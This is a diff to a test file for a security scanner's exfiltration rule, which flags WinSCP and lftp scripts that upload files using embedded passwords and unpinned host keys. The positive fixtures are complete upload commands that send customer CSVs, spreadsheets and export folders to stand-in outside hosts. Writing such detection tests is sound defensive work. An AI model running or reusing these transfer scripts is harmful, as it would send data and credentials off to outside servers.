@@ -607,6 +607,48 @@ describe('Apps Script fetch options', () => {
   });
 });
 
+describeRuleCases('exfiltration (transfer script uploading with embedded credentials, any host key)', [
+  {
+    id: 'SG-EXFIL-180',
+    file: 'winscp/nightly.txt',
+    positive:
+      'option batch abort\noption confirm off\nopen sftp://acct-12:Qv8!drop2024@sftp.bench-share.example/ -hostkey="*"\nput "C:\\Exports\\customers.csv" /incoming/\nclose\nexit\n',
+    // The partner upload with its host key pinned and the password from the credential store.
+    negative:
+      'option batch abort\nopen sftp://edi@sftp.partner.example/ -hostkey="ssh-ed25519 255 Xq3k0fingerprint" -rawsettings Password="%EDI_PW%"\nput "D:\\EDI\\out\\*.x12" /inbound/\nexit\n',
+  },
+  {
+    id: 'SG-EXFIL-180',
+    file: 'scripts/sync.bat',
+    positive:
+      '"C:\\Program Files (x86)\\WinSCP\\WinSCP.com" /command "open ftpes://u1:Zz91pass!x@203.0.113.40/ -certificate=*" "put C:\\Data\\*.xlsx /in/" "exit"\n',
+    // Downloading tariffs with the same switches uploads nothing; a LAN server is not outside.
+    negative:
+      '"C:\\Program Files (x86)\\WinSCP\\WinSCP.com" /command "open ftpes://u1:Zz91pass!x@203.0.113.40/ -certificate=*" "get /out/*.csv C:\\Rates\\" "exit"\nwinscp.com /command "open sftp://u1:Zz91pass!x@192.168.10.5/ -hostkey=*" "put C:\\Data\\a.csv /in/" "exit"\n',
+  },
+  {
+    id: 'SG-EXFIL-180',
+    file: 'scripts/push.lftp',
+    positive:
+      'set sftp:auto-confirm yes\nopen sftp://ops:R4nd0mPw!@files.drop-zone.example\nmirror -R /srv/exports /in\nbye\n',
+    negative: 'open sftp://ops:R4nd0mPw!@files.drop-zone.example\nmirror -R /srv/exports /in\nbye\n',
+  },
+]);
+
+describe('adversarial transfer scripts', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['open lines without a host', 'open sftp://a:'.repeat(MiB / 14)],
+    ['long passwords', 'open sftp://u:' + 'p'.repeat(MiB) + '\n'],
+    ['sessions', 'open sftp://u:pw1@h.example/ -hostkey=*\n'.repeat(MiB / 40) + 'put x y\n'],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'winscp/x.txt');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
 describe('adversarial Apps Script fetches', () => {
   const MiB = 1024 * 1024;
   const cases: [string, string][] = [
